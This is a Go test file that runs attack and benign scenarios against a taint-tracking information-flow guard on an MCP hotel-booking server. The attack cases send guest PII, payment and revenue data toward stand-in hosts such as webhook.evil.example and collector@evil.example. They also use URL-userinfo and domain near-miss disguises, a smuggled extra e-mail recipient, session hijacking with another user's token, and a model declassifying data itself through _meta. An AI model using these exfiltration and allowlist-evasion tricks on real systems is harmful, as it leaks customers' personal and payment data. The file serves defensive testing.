package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tenantmcp/tenantmcp/flow"
	"github.com/tenantmcp/tenantmcp/server"
)

const (
	external      = "collector@evil.example"
	externalHook  = "https://webhook.evil.example/in"
	trustedHook   = "https://reports.hotels.example/daily"
	staffMail     = "frontdesk@hotels.example"
	availability  = "search_availability"
	emailSink     = "send_confirmation_email"
	webhookSink   = "post_webhook"
	checkIn       = "2031-01-10"
	checkOut      = "2031-01-12"
	revenueFrom   = "2026-01-01"
	revenueTo     = "2027-01-01"
	guestPII      = "guest.pii"
	payment       = "payment"
	declassReason = "guest-invoice"
)

func mail(to string) map[string]any  { return map[string]any{"to": to, "body": "hello"} }
func hook(url string) map[string]any { return map[string]any{"url": url, "body": "{}"} }
func declassify(reason string) mcp.Meta {
	return mcp.Meta{flow.MetaDeclassify: reason}
}

// asking is single with a client that answers the server's elicitation
// (the declassification request) with answer: "accept" (allow=true) or
// "decline".
func (r *run) asking(answer string, judged string, args map[string]any, meta mcp.Meta, calls ...any) result {
	cs, err := r.sessionWith("carol", false, &mcp.ClientOptions{
		ElicitationHandler: func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			if answer == "accept" {
				return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"allow": true}}, nil
			}
			return &mcp.ElicitResult{Action: answer}, nil
		},
	})
	if err != nil {
		return fail(err)
	}
	defer cs.Close()
	if err := r.steps(cs, nil, calls...); err != nil {
		return fail(err)
	}
	return r.judge(cs, "carol", judged, args, meta)
}

// steps runs preparatory calls in cs, in order; each is tool and args.
func (r *run) steps(cs *mcp.ClientSession, meta mcp.Meta, calls ...any) error {
	for i := 0; i < len(calls); i += 2 {
		if _, err := call(r.ctx, cs, calls[i].(string), calls[i+1].(map[string]any), meta); err != nil {
			return err
		}
	}
	return nil
}

func (r *run) findGuest() (string, map[string]any) {
	return "find_guest", map[string]any{"query": r.e.guest.Email}
}

// single opens one session as user, makes the preparatory calls, then
// judges tool(args).
func (r *run) single(user string, judged string, args map[string]any, meta mcp.Meta, calls ...any) result {
	cs, err := r.session(user, r.sc.Stateless)
	if err != nil {
		return fail(err)
	}
	defer cs.Close()
	if err := r.steps(cs, nil, calls...); err != nil {
		return fail(err)
	}
	return r.judge(cs, user, judged, args, meta)
}

var (
	revenueArgs = map[string]any{"from": revenueFrom, "to": revenueTo}
	searchArgs  = map[string]any{"check_in": checkIn, "check_out": checkOut}
)

func scenarios(e *env) []scenario {
	guestMail := e.guest.Email
	gb := map[string]any{"id": e.booking}
	return []scenario{
		// ---- attacks ----
		{ID: "A1", Pattern: "guest PII → external e-mail address",
			Composition: "find_guest(guest) → send_confirmation_email(to=" + external + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail(external), nil, t, a)
			}},
		{ID: "A2", Pattern: "payment data → the chain's own (trusted) webhook",
			Composition: "get_booking(paid booking) → post_webhook(" + trustedHook + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII, payment}, WantBy: "get_booking",
			run: func(r *run) result {
				return r.single("carol", webhookSink, hook(trustedHook), nil, "get_booking", gb)
			}},
		{ID: "A3", Pattern: "payment data → external webhook",
			Composition: "get_booking(paid booking) → post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII, payment}, WantBy: "get_booking",
			run: func(r *run) result {
				return r.single("carol", webhookSink, hook(externalHook), nil, "get_booking", gb)
			}},
		{ID: "A4", Pattern: "internal revenue → external webhook",
			Composition: "revenue_report → post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook(externalHook), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A5", Pattern: "laundering: write through create_booking, read back with get_booking",
			Composition: "find_guest → create_booking(guest) → get_booking(new) → send_confirmation_email(to=" + external + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII, payment}, WantBy: "find_guest",
			run: func(r *run) result {
				cs, err := r.session("carol", false)
				if err != nil {
					return fail(err)
				}
				defer cs.Close()
				t, a := r.findGuest()
				if err := r.steps(cs, nil, t, a); err != nil {
					return fail(err)
				}
				created, err := call(r.ctx, cs, "create_booking", map[string]any{"room_id": r.e.room, "guest_id": r.e.guest.ID, "check_in": "2031-03-01", "check_out": "2031-03-04"}, nil)
				if err != nil {
					return fail(err)
				}
				if err := r.steps(cs, nil, "get_booking", map[string]any{"id": created["id"]}); err != nil {
					return fail(err)
				}
				return r.judge(cs, "carol", emailSink, mail(external), nil)
			}},
		{ID: "A6", Pattern: "taint reset attempt: a public call after the PII",
			Composition: "find_guest → search_availability → post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", webhookSink, hook(externalHook), nil, t, a, availability, searchArgs)
			}},
		{ID: "A7", Pattern: "second MCP session of the same subject",
			Composition: "session 1: find_guest · session 2 (new connection, new token): post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest",
			run: func(r *run) result {
				s1, err := r.session("carol", false)
				if err != nil {
					return fail(err)
				}
				t, a := r.findGuest()
				err = r.steps(s1, nil, t, a)
				s1.Close()
				if err != nil {
					return fail(err)
				}
				s2, err := r.session("carol", false)
				if err != nil {
					return fail(err)
				}
				defer s2.Close()
				res := r.judge(s2, "carol", webhookSink, hook(externalHook), nil)
				if res.Witness != nil && len(res.Witness.IntroducedBy) > 0 && res.Witness.IntroducedBy[0].SameSession {
					res.Err = errors.New("the witness claims the PII came from the same session")
				}
				return res
			}},
		{ID: "A8", Pattern: "stateless: another conversation id of the same subject",
			Composition: "_meta conversation c1: find_guest · conversation c2: post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest", Stateless: true,
			run: func(r *run) result {
				cs, err := r.session("carol", true)
				if err != nil {
					return fail(err)
				}
				defer cs.Close()
				t, a := r.findGuest()
				if err := r.steps(cs, mcp.Meta{flow.MetaConversation: "c1"}, t, a); err != nil {
					return fail(err)
				}
				return r.judge(cs, "carol", webhookSink, hook(externalHook), mcp.Meta{flow.MetaConversation: "c2"})
			}},
		{ID: "A9", Pattern: "the model names a wrong declassification reason in _meta",
			Composition: "get_booking → send_confirmation_email(to=guest's own address, _meta declassify=marketing; the client cannot be asked)",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{payment}, WantBy: "get_booking", WantConsent: server.ConsentUnsupported,
			run: func(r *run) result {
				return r.single("carol", emailSink, mail(guestMail), declassify("marketing"), "get_booking", gb)
			}},
		{ID: "A10", Pattern: "right reason in _meta, wrong destination",
			Composition: "get_booking → send_confirmation_email(to=" + external + ", _meta declassify=" + declassReason + ")",
			Want:        "DENY", WantRule: flow.RuleCategory, WantBy: "get_booking",
			run: func(r *run) result {
				return r.single("carol", emailSink, mail(external), declassify(declassReason), "get_booking", gb)
			}},
		{ID: "A11", Pattern: "glob near-miss: trusted name as a prefix of another domain",
			Composition: "revenue_report → post_webhook(https://reports.hotels.example.evil.net/x)",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://reports.hotels.example.evil.net/x"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A12", Pattern: "glob near-miss: trusted domain as a suffix without a dot",
			Composition: "revenue_report → post_webhook(https://evilhotels.example/x)",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://evilhotels.example/x"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A13", Pattern: "glob near-miss: the apex, which *.hotels.example does not cover",
			Composition: "revenue_report → post_webhook(https://hotels.example/x)",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://hotels.example/x"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A14", Pattern: "URL userinfo disguise",
			Composition: "revenue_report → post_webhook(https://reports.hotels.example@evil.net/x)",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://reports.hotels.example@evil.net/x"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A15", Pattern: "trusted host over plain http",
			Composition: "revenue_report → post_webhook(http://reports.hotels.example/daily)",
			Want:        "DENY", WantRule: flow.RuleLevel, WantBy: "revenue_report",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("http://reports.hotels.example/daily"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "A16", Pattern: "e-mail domain near-miss",
			Composition: "find_guest → send_confirmation_email(to=frontdesk@hotels.example.evil.net)",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail("frontdesk@hotels.example.evil.net"), nil, t, a)
			}},
		{ID: "A17", Pattern: "second recipient smuggled into the address",
			Composition: "find_guest → send_confirmation_email(to=\"guest, " + external + "\")",
			Want:        "DENY", WantRule: flow.RuleDestination,
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail(guestMail+", "+external), nil, t, a)
			}},
		{ID: "A18", Pattern: "many guests' PII to one guest's address ($owner does not hold)",
			Composition: "list_bookings(a month) → send_confirmation_email(to=one of those guests)",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "list_bookings",
			run: func(r *run) result {
				cs, err := r.session("carol", false)
				if err != nil {
					return fail(err)
				}
				defer cs.Close()
				page, err := call(r.ctx, cs, "list_bookings", map[string]any{"from": "2026-01-01", "to": "2026-03-01"}, nil)
				if err != nil {
					return fail(err)
				}
				bs, _ := page["bookings"].([]any)
				if len(bs) < 2 {
					return fail(fmt.Errorf("list_bookings returned %d bookings", len(bs)))
				}
				to, _ := bs[0].(map[string]any)["guest_email"].(string)
				return r.judge(cs, "carol", emailSink, mail(to), nil)
			}},
		{ID: "A19", Pattern: "plan check (CapShim plan, nothing runs)",
			Composition: "flow_check_plan[find_guest → post_webhook(" + externalHook + ", body=$ret:0)]",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{guestPII}, WantBy: "find_guest",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.plan("carol", flow.Plan{Steps: []flow.PlanStep{
					{Tool: t, Args: a},
					{Tool: webhookSink, Args: map[string]any{"url": externalHook, "body": "$ret:0"}},
				}}, 1)
			}},
		{ID: "A20", Pattern: "a session id presented with another subject's token",
			Composition: "carol: find_guest · bob's token + carol's Mcp-Session-Id: post_webhook(" + externalHook + ")",
			Want:        "DENY", WantRule: "http 403 (session bound to its subject)",
			run: func(r *run) result { return r.hijack() }},
		{ID: "A21", Pattern: "the model declassifies itself: the right reason in _meta, no user asked",
			Composition: "get_booking → send_confirmation_email(to=the guest, _meta declassify=" + declassReason + "; the client cannot be asked)",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{payment}, WantBy: "get_booking", WantConsent: server.ConsentUnsupported,
			run: func(r *run) result {
				return r.single("carol", emailSink, mail(guestMail), declassify(declassReason), "get_booking", gb)
			}},
		{ID: "A22", Pattern: "the user declines the declassification the server asks for",
			Composition: "get_booking → send_confirmation_email(to=the guest) → elicitation: user declines",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{payment}, WantBy: "get_booking", WantConsent: server.ConsentDeclined,
			run: func(r *run) result {
				return r.asking("decline", emailSink, mail(guestMail), nil, "get_booking", gb)
			}},
		{ID: "A23", Pattern: "the model sets _meta and the user declines",
			Composition: "get_booking → send_confirmation_email(to=the guest, _meta declassify=" + declassReason + ") → elicitation: user declines",
			Want:        "DENY", WantRule: flow.RuleCategory, WantCats: []string{payment}, WantBy: "get_booking", WantConsent: server.ConsentDeclined,
			run: func(r *run) result {
				return r.asking("decline", emailSink, mail(guestMail), declassify(declassReason), "get_booking", gb)
			}},

		// ---- benign flows ----
		{ID: "B1", Pattern: "public availability → external webhook",
			Composition: "search_availability → post_webhook(https://listings.partner.example/feed)", Want: "ALLOW",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://listings.partner.example/feed"), nil, availability, searchArgs)
			}},
		{ID: "B2", Pattern: "public availability → any e-mail address",
			Composition: "search_availability → send_confirmation_email(to=traveller@mail.example)", Want: "ALLOW",
			run: func(r *run) result {
				return r.single("alice", emailSink, mail("traveller@mail.example"), nil, availability, searchArgs)
			}},
		{ID: "B3", Pattern: "a guest's own data → that guest ($owner)",
			Composition: "find_guest(guest) → send_confirmation_email(to=the guest)", Want: "ALLOW", WantNote: "owner",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail(guestMail), nil, t, a)
			}},
		{ID: "B4", Pattern: "booking confirmation to the guest",
			Composition: "find_guest → search_availability → create_booking → send_confirmation_email(to=the guest)", Want: "ALLOW", WantNote: "owner",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail(guestMail), nil, t, a, availability, searchArgs,
					"create_booking", map[string]any{"room_id": r.e.room, "guest_id": r.e.guest.ID, "check_in": "2031-05-01", "check_out": "2031-05-03"})
			}},
		{ID: "B5", Pattern: "invoice with payment data to the guest, declassified because the user accepts",
			Composition: "get_booking → send_confirmation_email(to=the guest) → elicitation shows the witness: user accepts",
			Want:        "ALLOW", WantNote: "declassified:" + declassReason + " (user consent)", WantConsent: server.ConsentAccepted,
			run: func(r *run) result {
				return r.asking("accept", emailSink, mail(guestMail), nil, "get_booking", gb)
			}},
		{ID: "B6", Pattern: "guest PII → the hotels' staff address",
			Composition: "find_guest → send_confirmation_email(to=" + staffMail + ")", Want: "ALLOW",
			run: func(r *run) result {
				t, a := r.findGuest()
				return r.single("carol", emailSink, mail(staffMail), nil, t, a)
			}},
		{ID: "B7", Pattern: "internal revenue → trusted host",
			Composition: "revenue_report → post_webhook(" + trustedHook + ")", Want: "ALLOW",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook(trustedHook), nil, "revenue_report", revenueArgs)
			}},
		{ID: "B8", Pattern: "internal revenue → staff e-mail",
			Composition: "revenue_report → send_confirmation_email(to=finance@hotels.example)", Want: "ALLOW",
			run: func(r *run) result {
				return r.single("alice", emailSink, mail("finance@hotels.example"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "B9", Pattern: "glob: deeper subdomain, upper case, trailing dot",
			Composition: "revenue_report → post_webhook(https://EU.Reports.Hotels.Example./daily)", Want: "ALLOW",
			run: func(r *run) result {
				return r.single("alice", webhookSink, hook("https://EU.Reports.Hotels.Example./daily"), nil, "revenue_report", revenueArgs)
			}},
		{ID: "B10", Pattern: "another subject's taint does not cross over",
			Composition: "alice: find_guest · bob (own session): search_availability → post_webhook(" + externalHook + ")", Want: "ALLOW",
			run: func(r *run) result {
				a, err := r.session("alice", false)
				if err != nil {
					return fail(err)
				}
				err = r.steps(a, nil, "find_guest", map[string]any{"query": "Ma"})
				a.Close()
				if err != nil {
					return fail(err)
				}
				return r.single("bob", webhookSink, hook(externalHook), nil, availability, searchArgs)
			}},
		{ID: "B11", Pattern: "stateless: public data → external webhook",
			Composition: "search_availability → post_webhook(" + externalHook + ") (stateless HTTP)", Want: "ALLOW", Stateless: true,
			run: func(r *run) result {
				return r.single("bob", webhookSink, hook(externalHook), nil, availability, searchArgs)
			}},
		{ID: "B12", Pattern: "plan check of a benign plan, then the plan runs",
			Composition: "flow_check_plan[search_availability → post_webhook(external, body=$ret:0)] = allow; then run it", Want: "ALLOW",
			run: func(r *run) result {
				res := r.plan("alice", flow.Plan{Steps: []flow.PlanStep{
					{Tool: availability, Args: searchArgs},
					{Tool: webhookSink, Args: map[string]any{"url": externalHook, "body": "$ret:0"}},
				}}, 1)
				if res.Err != nil || res.PlanVerdict != flow.VerdictAllow {
					if res.Err == nil {
						res.Err = fmt.Errorf("plan verdict %s", res.PlanVerdict)
					}
					return res
				}
				out := r.single("alice", webhookSink, hook(externalHook), nil, availability, searchArgs)
				out.PlanVerdict, out.Subject = res.PlanVerdict, r.subject("alice")
				return out
			}},
		{ID: "B13", Pattern: "plan: a guest's data to that guest is deferred to the call, which is allowed",
			Composition: "flow_check_plan[find_guest → send_confirmation_email(to=the guest)] = deferred; then run it", Want: "ALLOW", WantNote: "owner",
			run: func(r *run) result {
				t, a := r.findGuest()
				res := r.plan("carol", flow.Plan{Steps: []flow.PlanStep{{Tool: t, Args: a}, {Tool: emailSink, Args: mail(guestMail)}}}, 1)
				if res.Err != nil || res.PlanVerdict != flow.VerdictDeferred {
					if res.Err == nil {
						res.Err = fmt.Errorf("plan verdict %s", res.PlanVerdict)
					}
					return res
				}
				out := r.single("carol", emailSink, mail(guestMail), nil, t, a)
				out.PlanVerdict = res.PlanVerdict
				return out
			}},
	}
}

// plan sends p to flow_check_plan in a fresh session and reports the
// verdict of step judged as the row's verdict.
func (r *run) plan(user string, p flow.Plan, judged int) result {
	cs, err := r.session(user, false)
	if err != nil {
		return fail(err)
	}
	defer cs.Close()
	raw, err := call(r.ctx, cs, flow.PlanToolName, map[string]any{"steps": p.Steps}, nil)
	if err != nil {
		return fail(err)
	}
	var rep flow.PlanReport
	if err := remarshal(raw, &rep); err != nil {
		return fail(err)
	}
	res := result{Subject: r.subject(user), PlanVerdict: rep.Verdict, planOnly: true}
	if len(rep.Steps) <= judged {
		return fail(fmt.Errorf("plan report has %d steps", len(rep.Steps)))
	}
	st := rep.Steps[judged]
	res.Tool = st.Tool
	switch st.Verdict {
	case flow.VerdictDeny:
		res.Verdict = "DENY"
		if st.Witness != nil {
			res.Rule, res.Witness = st.Witness.Rule, st.Witness
		}
	default:
		res.Verdict = "ALLOW"
	}
	return res
}

// hijack: carol's session reads PII; bob presents carol's session id with
// his own token. The go-sdk refuses it (403) before any tool runs, and
// carol's session keeps its taint.
func (r *run) hijack() result {
	cs, err := r.session("carol", false)
	if err != nil {
		return fail(err)
	}
	defer cs.Close()
	t, a := r.findGuest()
	if err := r.steps(cs, nil, t, a); err != nil {
		return fail(err)
	}
	bobTok, err := r.token("bob", false)
	if err != nil {
		return fail(err)
	}
	body := `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"post_webhook","arguments":{"url":"` + externalHook + `","body":"{}"}}}`
	req, _ := http.NewRequestWithContext(r.ctx, "POST", r.e.stateful.app.HTTP.ResourceURL, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	req.Header.Set("Authorization", "Bearer "+bobTok)
	req.Header.Set("Mcp-Session-Id", cs.ID())
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return fail(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	res := result{Subject: r.subject("bob"), Extra: fmt.Sprintf("HTTP %d", resp.StatusCode)}
	if resp.StatusCode != http.StatusForbidden {
		res.Verdict = "ALLOW"
		return res
	}
	res.Verdict, res.Rule = "DENY", "http 403 (session bound to its subject)"
	// The session's own taint is intact: carol still cannot post it.
	after := r.judge(cs, "carol", webhookSink, hook(externalHook), nil)
	if after.Verdict != "DENY" || after.Rule != flow.RuleCategory {
		res.Err = fmt.Errorf("after the attempt carol's session was %s (%s): its taint was reset", after.Verdict, after.Rule)
	}
	res.Witness = after.Witness
	return res
}
